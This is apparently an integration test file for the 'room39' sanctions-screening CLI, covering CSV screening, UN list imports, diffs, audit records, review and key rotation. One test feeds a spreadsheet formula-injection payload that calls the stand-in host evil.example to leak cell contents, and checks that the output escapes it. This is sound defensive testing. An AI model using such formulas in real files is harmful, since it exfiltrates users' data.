/**
 * The command line's writing and screening commands, run as a person runs
 * them (child processes on a copy of the loaded store, while `room39 serve`
 * holds it, so each command goes through the server's local socket; the same
 * commands on an unheld directory give the same answers:
 * local-socket-answers.test.ts), on real data: the
 * bundled supplier CSV and seed documents, the real UN list and a second
 * version made by editing a copy of it. Each checks the exit code, the JSON
 * on stdout and what the store holds after; the CSV a screening writes has
 * no cell a spreadsheet would run as a formula; every write is in the audit
 * trail with the OS user.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { REPO_ROOT } from '../../src/config/settings.ts';
import { loadedDataDir } from '../support/services.ts';
import { parseCsvText, unSecondVersion } from './fixtures.ts';
import { cli, serve, type CliRun, type Served } from './local-server.ts';

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'room39-cli-doors-'));
let dataDir = '';
let server: Served | null = null;
const OS_USER = os.userInfo().username;

/** A room39 command run as a person runs it, through the `room39 serve` that holds the data directory (see beforeAll). */
function room39(args: string[], opts: { input?: string; env?: Record<string, string> } = {}): Promise<CliRun> {
  return cli(dataDir, args, { input: opts.input, env: { ROOM39_KEY: '', ROOM39_KEY_FILE: '', ...opts.env } });
}
const json = <T>(r: { stdout: string; stderr: string }): T => {
  try {
    return JSON.parse(r.stdout) as T;
  } catch {
    throw new Error(`not JSON on stdout: ${r.stdout.slice(0, 500)}\nstderr: ${r.stderr.slice(0, 2000)}`);
  }
};
/** Two `diff --json` listings are the same: on failure, says where they first differ rather than printing 16,000 changes. */
function expectSameListing(after: { code: number | null; stdout: string; stderr: string }, before: { stdout: string; stderr: string }): void {
  expect(after.code, after.stderr).toBe(0);
  if (after.stdout === before.stdout) return;
  type Listing = { counts: unknown; versions: unknown; changes: unknown[] };
  const a = json<Listing>(before), b = json<Listing>(after);
  expect(b.versions).toEqual(a.versions);
  expect(b.counts).toEqual(a.counts);
  const at = b.changes.findIndex((c, i) => JSON.stringify(c) !== JSON.stringify(a.changes[i]));
  expect({ at, before: a.changes[at] ?? null, after: b.changes[at] ?? null, stderr: after.stderr.slice(0, 500) }).toEqual({ at: -1, before: null, after: null, stderr: after.stderr.slice(0, 500) });
}
interface AuditList { records: { actor: string; action: string; target: string | null; after: Record<string, unknown> | null }[] }

// Every check runs the real command line (a child process): slow on a loaded machine, hence the long timeouts.
beforeAll(async () => {
  dataDir = await loadedDataDir();
  server = await serve(dataDir);
  // The server screens a command's rows once it holds its own screening index (as after the web app's first screening).
  const url = /serving (http:\/\/\S+)/.exec(server.output())![1]!;
  const warm = await fetch(`${url}/api/screen`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ rows: [{ name: 'Kim Won Hong' }] }) });
  expect(warm.status).toBe(200);
}, 600_000);
afterAll(async () => {
  await server?.stop();
  fs.rmSync(tmp, { recursive: true, force: true });
  if (dataDir) fs.rmSync(dataDir, { recursive: true, force: true });
});

describe('room39 screen', { timeout: 900_000 }, () => {
  it('screens the bundled supplier CSV, and the CSV it writes runs no formula', async () => {
    const input = path.join(tmp, 'suppliers.csv');
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Kim Won Hong")';
    fs.writeFileSync(input, `${fs.readFileSync(path.join(REPO_ROOT, 'data/examples/suppliers.csv'), 'utf8').trimEnd()}\n"${evil.replace(/"/g, '""')}",Person,,,\n@SUM(1+1),,,,\n`);
    const out = path.join(tmp, 'out.csv');
    const r = await room39(['screen', input, '--out-csv', out, '--json']);
    expect(r.code, r.stderr).toBe(0);
    const answer = json<{ rows: { row: number; input: { name: string }; matches: { id: string; match: boolean }[] }[]; summary: { rows: number } }>(r);
    const kim = answer.rows.find((x) => x.input.name === 'Kim Won Hong')!;
    expect(kim.matches[0]).toMatchObject({ id: 'r39-kim-won-hong', match: true });
    expect(answer.summary.rows).toBe(answer.rows.length);
    // A comment line names the list versions screened against, then the table.
    const written = fs.readFileSync(out, 'utf8');
    expect(written).toMatch(/^# room39 screening against: us_ofac_sdn 2024-05-03 [^\n]*un_sc_sanctions 2026-02-27/);
    const cells = parseCsvText(written.slice(written.indexOf('\n') + 1));
    expect(cells[0]!.slice(0, 3)).toEqual(['row', 'name', 'schema']);
    const all = cells.flat();
    expect(all.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(all).toContain(`'${evil}`);
    expect(all).toContain("'@SUM(1+1)");
  });

  it('a file that cannot be read exits 1 with the error on stderr, and stdout is empty or one whole JSON document', async () => {
    const suppliers = fs.readFileSync(path.join(REPO_ROOT, 'data/examples/suppliers.csv'), 'utf8').trimEnd();
    const bad: [string, string | Buffer][] = [
      ['empty.csv', ''],
      ['unclosed.csv', 'name,country\n"Kim Won Hong,KP\nJohn Smith,US\n'],
      ['binary.csv', zlib.gzipSync(suppliers)],
    ];
    for (const [name, content] of bad) {
      fs.writeFileSync(path.join(tmp, name), content);
      const r = await room39(['screen', path.join(tmp, name), '--json']);
      expect(r.code, `${name}: ${r.stderr}`).toBe(1);
      // Failing before any row, nothing has been written.
      expect(r.stdout, name).toBe('');
      const error = json<{ error: { code: string; message: string } }>({ stdout: r.stderr.trimEnd().split('\n').at(-1)!, stderr: r.stderr }).error;
      expect(error, name).toMatchObject({ code: 'invalid_input', message: expect.stringContaining(name) });
    }
    // Broken after the bundled suppliers: the rows already written are closed as one document, with the error and no summary.
    fs.writeFileSync(path.join(tmp, 'late.csv'), `${suppliers}\n"Unclosed, Ltd,Company\nJohn Smith,Person,US,,\n`);
    const late = await room39(['screen', path.join(tmp, 'late.csv'), '--json']);
    expect(late.code, late.stderr).toBe(1);
    expect(late.stderr).toMatch(/late\.csv.*Quote Not Closed/);
    // Every row before the break is screened and written; the document is closed with the error.
    const doc = json<{ rows: { row: number }[]; error: { code: string }; summary?: unknown }>(late);
    expect(doc.error.code).toBe('invalid_input');
    expect(doc.summary).toBeUndefined();
    expect(doc.rows.map((x) => x.row)).toEqual(Array.from({ length: suppliers.split('\n').length - 1 }, (_, i) => i + 1));
  });

  it('the HTML report shows every row screened, those with no candidate too; so does the CSV', async () => {
    const suppliers = fs.readFileSync(path.join(REPO_ROOT, 'data/examples/suppliers.csv'), 'utf8').trimEnd();
    const input = path.join(tmp, 'cleared.csv');
    fs.writeFileSync(input, `${suppliers}\nHans Schmidt,Person,DE,,\n<i>Müller</i> & Söhne GmbH,Company,DE,,\n`);
    const rows = suppliers.split('\n').length + 1;
    const html = path.join(tmp, 'cleared.html');
    const csv = path.join(tmp, 'cleared-report.csv');
    const r = await room39(['screen', input, '--out-html', html, '--out-csv', csv]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(new RegExp(`^${rows} rows screened`));
    const report = fs.readFileSync(html, 'utf8');
    // Every row in the body, in order (the summary at the end links again to those that match).
    expect([...report.slice(0, report.indexOf('<section id="summary">')).matchAll(/Row (\d+): /g)].map((m) => Number(m[1]))).toEqual(Array.from({ length: rows }, (_, i) => i + 1));
    expect(report).toContain(`Row ${rows - 1}: Hans Schmidt</strong> — no candidate`);
    expect(report).toContain(`Row ${rows}: &lt;i&gt;Müller&lt;/i&gt; &amp; Söhne GmbH`);
    expect(report).not.toContain('<i>Müller');
    const cells = parseCsvText(fs.readFileSync(csv, 'utf8').replace(/^#.*\n/, ''));
    expect(cells.find((c) => c[1] === 'Hans Schmidt')?.slice(0, 7)).toEqual([String(rows - 1), 'Hans Schmidt', 'Person', 'DE', '', '', 'no']);
  });

  it('a missing file exits 1 with the file named on stderr and nothing on stdout', async () => {
    const r = await room39(['screen', path.join(tmp, 'nope.csv'), '--json']);
    expect(r.code).toBe(1);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/nope\.csv/);
  });

  it('screens one name given on the command line: the contract\'s JSON, and a readable answer with why and the risks', async () => {
    const r = await room39(['screen', '--name', 'Kim Won Hong', '--country', 'KP', '--json']);
    expect(r.code, r.stderr).toBe(0);
    const doc = json<{ rows: { row: number; input: Record<string, string>; matches: { id: string; match: boolean; flags: unknown[] }[] }[]; summary: { rows: number } }>(r);
    expect(doc.rows).toHaveLength(1);
    expect(doc.rows[0]).toMatchObject({ row: 1, input: { name: 'Kim Won Hong', country: 'KP' } });
    expect(doc.rows[0]!.matches[0]).toMatchObject({ id: 'r39-kim-won-hong', match: true });
    expect(doc.rows[0]!.matches[0]!.flags.length).toBeGreaterThan(0);
    const text = await room39(['screen', '--name', 'Kim Won Hong', '--schema', 'Person']);
    expect(text.code, text.stderr).toBe(0);
    expect(text.stdout).toMatch(/^Kim Won Hong: \d+ candidate\(s\), \d+ at or above the threshold/);
    expect(text.stdout).toMatch(/MATCH +Kim Won-hong +\[Person\] +r39-kim-won-hong/);
    expect(text.stdout).toMatch(/why: "Kim Won Hong" ~ "Kim Won-hong"/);
    expect(text.stdout).toMatch(/risk: Sanctioned/);
    const both = await room39(['screen', 'data/examples/suppliers.csv', '--name', 'Kim Won Hong']);
    expect(both.code).toBe(2);
    expect(both.stderr).toMatch(/a file or --name, not both/);
    const stray = await room39(['screen', 'data/examples/suppliers.csv', '--country', 'KP']);
    expect(stray.code).toBe(2);
    expect(stray.stderr).toMatch(/--country goes with --name/);
    // An empty name is a mistake in the command, not a screening: it said ": not screened: row 1: the name is empty" and exited 0.
    for (const blank of ['', '   ']) {
      const empty = await room39(['screen', '--name', blank, '--json']);
      expect(empty.code).toBe(2);
      expect(empty.stdout).toBe('');
      expect(empty.stderr).toMatch(/--name is empty: give the name to screen/);
    }
  });
});

describe('room39 import, diff and the audit trail', { timeout: 900_000 }, () => {
  it('imports a second version of the real UN list: what changed, in JSON, audited with the OS user', async () => {
    const v2 = unSecondVersion(tmp);
    const r = await room39(['import', 'un-xml', v2, '--json']);
    expect(r.code, r.stderr).toBe(0);
    expect(json(r)).toMatchObject({ dataset: 'un_sc_sanctions', version: '2026-03-15', status: 'imported', entries: 1003, added: 1, changed: 1, removed: 1 });
    const again = await room39(['import', 'un-xml', v2, '--json']);
    expect(again.code).toBe(0);
    expect(json(again)).toMatchObject({ status: 'already_imported', added: 0 });
    const audit = json<AuditList>(await room39(['audit', 'list', '--action', 'list.import', '--json']));
    expect(audit.records).toHaveLength(1);
    expect(audit.records[0]).toMatchObject({ actor: `cli:${OS_USER}`, target: 'un_sc_sanctions-2026-03-15', after: { version: '2026-03-15', added: 1, changed: 1, removed: 1 } });
  });

  it('diff --json lists exactly the added, changed and removed entries', async () => {
    const r = await room39(['diff', '--since', '2026-03-01', '--json']);
    expect(r.code, r.stderr).toBe(0);
    const d = json<{ counts: Record<string, number>; changes: { change: string; entry_id: string }[] }>(r);
    expect(d.counts).toEqual({ added: 1, changed: 1, removed: 1 });
    expect(Object.fromEntries(d.changes.map((c) => [c.change, c.entry_id]))).toEqual({ added: 'KPi.999', changed: 'KPi.001', removed: 'KPe.001' });
    const bad = await room39(['diff', '--since', 'last week']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/--since takes a date/);
  });

  it('a truncated file exits 1 with its position, and changes nothing', async () => {
    const before = await room39(['diff', '--json', '--initial', '--limit', '100000']);
    expect(before.code, before.stderr).toBe(0);
    const cut = path.join(tmp, 'consolidated-cut.xml');
    const v3 = fs.readFileSync(unSecondVersion(tmp), 'utf8').replace('dateGenerated="2026-03-15T00:00:00.000Z"', 'dateGenerated="2026-04-01T00:00:00.000Z"');
    fs.writeFileSync(cut, Buffer.from(v3).subarray(0, 1_500_000));
    const r = await room39(['import', 'un-xml', cut, '--json']);
    expect(r.code).toBe(1);
    expect(r.stdout).toBe('');
    expect(json<{ error: { code: string; message: string } }>({ stdout: r.stderr, stderr: '' }).error.message).toMatch(/consolidated-cut\.xml:\d+:\d+/);
    expectSameListing(await room39(['diff', '--json', '--initial', '--limit', '100000']), before);
    expect(json<AuditList>(await room39(['audit', 'list', '--action', 'list.import', '--json'])).records).toHaveLength(1);
  });
});

describe('room39 extract and review', { timeout: 900_000 }, () => {
  let sourceId = '';
  it('extract --json finds the entities and figures of a seed document', async () => {
    const r = await room39(['extract', path.join(REPO_ROOT, 'data/sources/seeds/004_44246f2efce558ec.txt'), '--json']);
    expect(r.code, r.stderr).toBe(0);
    const x = json<{ mentions: { entity_id?: string | null; text: string; type: string; role?: string | null }[]; figures: unknown[] }>(r);
    expect(x.mentions.length).toBeGreaterThan(10);
    expect(x.figures.length).toBeGreaterThan(0);
    // Read by a person: the counts by type first, host countries marked as such.
    const text = await room39(['extract', path.join(REPO_ROOT, 'data/sources/seeds/004_44246f2efce558ec.txt')]);
    expect(text.code, text.stderr).toBe(0);
    const countries = x.mentions.filter((m) => m.type === 'country');
    const hosts = countries.filter((m) => m.role === 'host').length;
    expect(hosts).toBeGreaterThan(0);
    expect(text.stdout).toContain(`Mentions (${x.mentions.length}: ${countries.length} country (${hosts} as a host), `);
    expect(text.stdout.split('\n').filter((l) => /^country .* [A-Z]{2} \(host\)$/.test(l))).toHaveLength(hosts);
  });

  it('extract --save puts the document in the review queue, and review accepts an item, audited', async () => {
    const doc = path.join(tmp, 'report.txt');
    fs.writeFileSync(doc, 'The Mansudae Overseas Project Group sent about 1,000 workers to Namibia in 2015, according to the report.\n');
    const saved = await room39(['extract', doc, '--save', '--title', 'CLI test report', '--submitted-by', 'tester', '--json']);
    expect(saved.code, saved.stderr).toBe(0);
    const s = json<{ source: { id: string; filename: string }; review_items: number; status: string }>(saved);
    expect(s.review_items).toBeGreaterThan(0);
    sourceId = s.source.id;
    // The file's name is kept, not the folders it was in; the same bytes again stand under the title first given.
    expect(s.source.filename).toBe('report.txt');
    const again = json<{ source: { title: string }; status: string }>(await room39(['extract', doc, '--save', '--title', 'Another title', '--json']));
    expect(again).toMatchObject({ status: 'existing', source: { title: 'CLI test report', filename: 'report.txt' } });
    const long = await room39(['extract', doc, '--save', '--title', 'x'.repeat(10_000)]);
    expect(long.code).toBe(2);
    expect(long.stderr).toMatch(/--title must be 1 to 500 characters \(got 10000\)/);
    const list = await room39(['review', 'list', '--source', sourceId, '--json']);
    expect(list.code, list.stderr).toBe(0);
    const items = json<{ items: { id: string; status: string }[]; total: number }>(list).items;
    expect(items.length).toBe(s.review_items);
    const noReviewer = await room39(['review', 'accept', items[0]!.id], { env: { ROOM39_REVIEWER: '' } });
    expect(noReviewer.code).toBe(2);
    const accepted = await room39(['review', 'accept', items[0]!.id, '--reviewer', 'tester', '--reliability', 'C3', '--json']);
    expect(accepted.code, accepted.stderr).toBe(0);
    expect(json<{ item: { status: string; reviewer: string } }>(accepted).item).toMatchObject({ status: 'accepted', reviewer: 'cli:tester' });
    expect((await room39(['review', 'show', 'no-such-item', '--json'])).code).toBe(3);
    const audit = json<AuditList>(await room39(['audit', 'list', '--actor', 'cli:tester', '--json']));
    expect(audit.records.map((x) => x.action)).toEqual(expect.arrayContaining(['review.accept']));
  });
});

describe('room39 user and keys', { timeout: 900_000 }, () => {
  it('adds accounts from stdin, lists, disables (never the last admin); refuses a short password and an unknown role', async () => {
    const added = await room39(['user', 'add', 'alice', '--role', 'admin', '--password-stdin', '--json'], { input: 'a passphrase long enough\n' });
    expect(added.code, added.stderr).toBe(0);
    expect(json<{ user: { username: string; role: string } }>(added).user).toMatchObject({ username: 'alice', role: 'admin' });
    expect(added.stdout).not.toContain('a passphrase long enough');
    expect((await room39(['user', 'add', 'bob', '--role', 'admin', '--password-stdin'], { input: 'short\n' })).code).toBe(1);
    expect((await room39(['user', 'add', 'bob', '--role', 'wizard', '--password-stdin'], { input: 'a passphrase long enough\n' })).code).not.toBe(0);
    const last = await room39(['user', 'disable', 'alice']);
    expect(last.code).toBe(1);
    expect(last.stderr).toMatch(/last active admin/);
    expect((await room39(['user', 'add', 'carol', '--role', 'viewer', '--password-stdin'], { input: 'another long passphrase\n' })).code).toBe(0);
    expect((await room39(['user', 'disable', 'carol', '--json'])).code).toBe(0);
    const list = json<{ users: { username: string; role: string; disabled: boolean }[] }>(await room39(['user', 'list', '--json']));
    expect(list.users.map((u) => [u.username, u.role, u.disabled])).toEqual([['alice', 'admin', false], ['carol', 'viewer', true]]);
    const audit = json<AuditList>(await room39(['audit', 'list', '--actor', `cli:${OS_USER}`, '--json']));
    expect(audit.records.map((x) => x.action)).toEqual(expect.arrayContaining(['user.create', 'user.disable']));
  });

  it('generates a private key file, stores the bundled testimonies with it, and rotates them to a new key', async () => {
    // On the unheld directory: a command's key governs the store it opens itself (a running server keeps its own).
    await server?.stop();
    server = null;
    const k1 = path.join(tmp, 'k1.key');
    const k2 = path.join(tmp, 'k2.key');
    const g = await room39(['keys', 'generate', '--out', k1, '--json']);
    expect(g.code, g.stderr).toBe(0);
    expect(fs.statSync(k1).mode & 0o777).toBe(0o600);
    expect((await room39(['keys', 'generate', '--out', k1])).code).not.toBe(0); // never overwrites a key
    const status = await room39(['keys', 'status', '--json'], { env: { ROOM39_KEY_FILE: k1 } });
    expect(status.code, status.stderr).toBe(0);
    const s = json<{ configured: boolean; current: string; usage: { key_id: string; rows: number }[] }>(status);
    expect(s.usage).toEqual([{ key_id: s.current, rows: 28 }]);
    expect((await room39(['keys', 'generate', '--out', k2])).code).toBe(0);
    const rotated = await room39(['keys', 'rotate', '--new-key-file', k2, '--json'], { env: { ROOM39_KEY_FILE: k1 } });
    expect(rotated.code, rotated.stderr).toBe(0);
    const r = json<{ rows: number; to: string }>(rotated);
    expect(r.rows).toBe(28);
    const after = json<{ usage: { key_id: string; rows: number }[] }>(await room39(['keys', 'status', '--json'], { env: { ROOM39_KEY_FILE: k2 } }));
    expect(after.usage).toEqual([{ key_id: r.to, rows: 28 }]);
    expect((await room39(['keys', 'rotate', '--json'], { env: { ROOM39_KEY_FILE: k2 } })).code).toBe(2);
  });
});
